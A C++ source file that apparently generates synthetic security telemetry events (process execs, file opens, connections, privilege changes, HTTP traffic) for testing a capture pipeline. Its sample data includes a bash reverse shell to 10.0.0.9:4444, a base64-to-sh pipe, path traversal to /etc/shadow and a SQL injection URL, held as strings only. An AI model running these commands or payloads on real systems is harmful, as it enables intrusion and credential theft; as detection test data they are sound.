#include "capture/synthetic_source.h"

#include <algorithm>
#include <array>
#include <cstring>
#include <string_view>

#include <fmt/format.h>

namespace ringward::capture {
namespace {

uint64_t splitmix(uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

class Rng {
 public:
  explicit Rng(uint64_t s) : s_(s) {}
  uint64_t next() { return s_ = splitmix(s_); }
  uint64_t below(uint64_t n) { return next() % n; }
  template <class T, size_t N>
  const T& pick(const std::array<T, N>& a) { return a[below(N)]; }

 private:
  uint64_t s_;
};

capnp::Data::Reader bytes(std::string_view s) {
  return {reinterpret_cast<const kj::byte*>(s.data()), s.size()};
}

constexpr std::array<std::string_view, 8> kComms = {"nginx", "bash", "python3", "postgres",
                                                     "sshd", "curl", "node", "cron"};
constexpr std::array<std::string_view, 8> kPaths = {
    "/etc/passwd", "/var/log/nginx/access.log", "/usr/lib/x86_64-linux-gnu/libc.so.6",
    "/srv/app/static/../../etc/shadow", "/tmp/upload-7f3a.bin", "/proc/self/status",
    "/home/alice/.ssh/authorized_keys", "/srv/app/config/settings.json"};
constexpr std::array<std::string_view, 8> kTargets = {
    "/api/users/12345", "/api/orders/550e8400-e29b-41d4-a716-446655440000/items", "/health",
    "/api/search?q=shoes&page=2", "/api/login", "/static/..%2f..%2fetc%2fpasswd",
    "/api/items?id=1%27%20OR%20%271%27%3D%271", "/graphql"};
constexpr std::array<std::string_view, 6> kBodies = {
    R"({"data":{"id":1,"name":"widget"}})",
    R"({"success":false,"error":{"code":"INSUFFICIENT_FUNDS","message":"balance too low"}})",
    R"({"data":{"user":null},"errors":[{"message":"field deprecated"}]})",
    R"({"status":"ok","items":[{"id":7,"note":"no error here"}]})",
    R"({"code":"ERROR","message":"validation failed: email"})",
    R"({"message":"internal server error"})"};

void envelope(Rng& r, uint64_t mono_ns, schema::Event::Builder ev) {
  ev.setMonoNs(mono_ns);
  uint32_t pid = 300 + static_cast<uint32_t>(r.below(30000));
  ev.setPid(pid);
  ev.setTid(pid + static_cast<uint32_t>(r.below(4)));
  ev.setPpid(1 + static_cast<uint32_t>(r.below(999)));
  uint32_t uid = r.below(4) == 0 ? 0 : 1000 + static_cast<uint32_t>(r.below(5));
  ev.setUid(uid);
  ev.setGid(uid);
  ev.setComm(bytes(r.pick(kComms)));
  ev.setParentComm(bytes(r.pick(kComms)));
  ev.setCgroupId(4000 + r.below(50));
}

}  // namespace

SyntheticSource::SyntheticSource(const Clock& clock, uint64_t seed, uint64_t total, uint64_t rate,
                                 uint64_t start_index)
    : clock_(clock), seed_(seed), total_(total), rate_(rate), index_(start_index) {}

schema::Priority SyntheticSource::make_event(uint64_t seed, uint64_t index, uint64_t mono_ns,
                                             schema::Event::Builder ev) {
  Rng r(splitmix(seed * 0x100000001b3ULL + index));
  envelope(r, mono_ns, ev);
  auto kind = ev.initKind();
  uint64_t k = r.below(100);
  if (k < 20) {  // process exec
    auto x = kind.initProcessExec();
    static constexpr std::array<std::array<std::string_view, 3>, 6> kCmds = {{
        {"/usr/bin/ls", "-la", "/srv/app"},
        {"/usr/bin/curl", "-fsSL", "https://example.com/install.sh"},
        {"/bin/bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"},
        {"/usr/bin/python3", "manage.py", "migrate"},
        {"/usr/bin/git", "pull", "--ff-only"},
        {"/bin/sh", "-c", "echo aGVsbG8= | base64 -d | sh"},
    }};
    const auto& c = kCmds[r.below(kCmds.size())];
    x.setFilename(bytes(c[0]));
    auto argv = x.initArgv(3);
    for (unsigned i = 0; i < 3; ++i) argv.set(i, bytes(c[i]));
    x.setCwd(bytes("/srv/app"));
    return schema::Priority::NORMAL;
  }
  if (k < 30) {
    kind.initProcessExit().setExitCode(static_cast<int32_t>(r.below(3)) << 8);
    return schema::Priority::LOW;
  }
  if (k < 60) {
    auto x = kind.initFileOpen();
    x.setPath(bytes(r.pick(kPaths)));
    x.setFlags(static_cast<uint32_t>(r.below(2) ? 0 : 0101));
    x.setMode(0644);
    x.setResult(r.below(10) == 0 ? -2 : 3 + static_cast<int32_t>(r.below(100)));
    x.setSyscall("openat");
    return schema::Priority::LOW;
  }
  if (k < 72) {
    auto x = r.below(2) ? kind.initNetConnect() : kind.initNetAccept();
    bool v6 = r.below(4) == 0;
    x.setFamily(v6 ? 10 : 2);
    std::array<uint8_t, 16> a{}, b{};
    if (v6) {
      a[15] = 1;
      b[15] = 1;
    } else {
      a = {127, 0, 0, 1};
      b = {10, 0, static_cast<uint8_t>(r.below(256)), static_cast<uint8_t>(r.below(256))};
    }
    size_t n = v6 ? 16 : 4;
    x.setSrcAddr(capnp::Data::Reader(a.data(), n));
    x.setDstAddr(capnp::Data::Reader(b.data(), n));
    x.setSrcPort(static_cast<uint16_t>(32768 + r.below(28000)));
    x.setDstPort(r.below(2) ? 443 : 5432);
    x.setResult(0);
    return schema::Priority::NORMAL;
  }
  if (k < 75) {
    auto x = kind.initPrivilegeChange();
    bool escalate = r.below(3) == 0;
    x.setSyscall(escalate ? "setuid" : "setresuid");
    uint32_t uid = 1000 + static_cast<uint32_t>(r.below(5));
    x.setOldUid(uid);
    x.setOldEuid(uid);
    x.setNewUid(escalate ? 0 : uid);
    x.setNewEuid(escalate ? 0 : uid);
    x.setOldGid(uid);
    x.setNewGid(uid);
    x.setOldEgid(uid);
    x.setNewEgid(uid);
    x.setResult(0);
    ev.setUid(uid);
    return escalate ? schema::Priority::CRITICAL : schema::Priority::HIGH;
  }
  auto x = kind.initHttp();
  std::string_view target = r.pick(kTargets);
  bool post = target == "/api/login" || target == "/graphql";
  uint16_t status = r.below(10) == 0 ? 500 : (r.below(20) == 0 ? 404 : 200);
  std::string_view body = status == 500 ? kBodies[5] : kBodies[r.below(5)];
  x.setMethod(post ? "POST" : "GET");
  x.setTarget(bytes(target));
  x.setStatus(status);
  std::string req = fmt::format("{} {} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: curl/7.88.1\r\n"
                                "Accept: */*\r\n\r\n", post ? "POST" : "GET", target);
  std::string resp = fmt::format("HTTP/1.1 {} {}\r\nContent-Type: application/json\r\n"
                                 "Content-Length: {}\r\n\r\n{}", status,
                                 status == 200 ? "OK" : status == 404 ? "Not Found" : "Internal Server Error",
                                 body.size(), body);
  x.setRequest(bytes(req));
  x.setResponse(bytes(resp));
  x.setRequestSize(req.size());
  x.setResponseSize(resp.size());
  x.setLatencyNs(200'000 + r.below(50'000'000));
  x.setFamily(2);
  std::array<uint8_t, 4> lo = {127, 0, 0, 1};
  x.setLocalAddr(capnp::Data::Reader(lo.data(), 4));
  x.setRemoteAddr(capnp::Data::Reader(lo.data(), 4));
  x.setLocalPort(8080);
  x.setRemotePort(static_cast<uint16_t>(32768 + r.below(28000)));
  x.setRole("server");
  return status >= 500 ? schema::Priority::HIGH : schema::Priority::NORMAL;
}

bool SyntheticSource::pump(Emitter& out, std::chrono::milliseconds budget) {
  if (total_ != 0 && index_ >= total_) return false;
  uint64_t now = clock_.mono_ns();
  if (start_mono_ == 0) {
    start_mono_ = now;
    start_index_ = index_;
  }
  // How many events the rate allows by now; bursts are bounded to one pump's worth.
  uint64_t allowed = 1024;
  if (rate_ != 0) {
    uint64_t due = start_index_ + (now - start_mono_) * rate_ / 1'000'000'000ULL;
    allowed = due > index_ ? std::min<uint64_t>(due - index_, 1024) : 0;
  }
  if (total_ != 0) allowed = std::min(allowed, total_ - index_);
  for (uint64_t i = 0; i < allowed; ++i) {
    uint64_t idx = index_;
    schema::Priority prio = schema::Priority::NORMAL;
    out.emit(schema::Priority::NORMAL, [&](schema::Event::Builder ev) {
      prio = make_event(seed_, idx, now, ev);
      ev.setPriority(prio);
    });
    ++index_;
  }
  if (allowed == 0) {
    // Sleep until the next event is due, within the budget.
    uint64_t wait_ns = rate_ ? 1'000'000'000ULL / rate_ : 0;
    wait_ns = std::min<uint64_t>(wait_ns, budget.count() * 1'000'000ULL);
    timespec ts{static_cast<time_t>(wait_ns / 1'000'000'000ULL), static_cast<long>(wait_ns % 1'000'000'000ULL)};
    nanosleep(&ts, nullptr);
  }
  return total_ == 0 || index_ < total_;
}

}  // namespace ringward::capture
